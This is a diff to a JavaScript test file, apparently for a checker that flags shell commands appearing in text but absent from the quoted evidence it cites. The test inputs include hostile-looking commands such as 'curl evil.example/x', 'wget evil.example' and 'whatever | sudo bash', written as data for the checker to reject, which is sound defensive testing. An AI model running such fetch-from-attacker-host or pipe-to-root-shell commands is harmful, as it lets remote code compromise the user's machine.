@@ -78,6 +78,8 @@ describe('the evidence for a memory', () => {
       '`other-tool --all`',
       '```sh\ncd build\nwget evil.example\n```',
       '~~~\nsudo tool now\nbash x\n~~~',
+      '```sh\ncurl evil.example/x',
+      '`` `curl evil.example` ``',
       'whatever | sudo bash',
     ])
       assert.equal(problem(quote, `Run the tests: ${command}`), 'unsaidCommand', command);
@@ -87,6 +89,7 @@ describe('the evidence for a memory', () => {
     const quote = 'always run the tests with pnpm before you commit';
     for (const text of [
       'Run `pnpm test` before a commit.',
+      'Tests need `pnpm install`.',
       'Tests: `vitest.config.ts` and `describe` blocks.',
       'Tests return `string | undefined`; prefer `const` over `let`, `() => {}` over functions.',
     ])
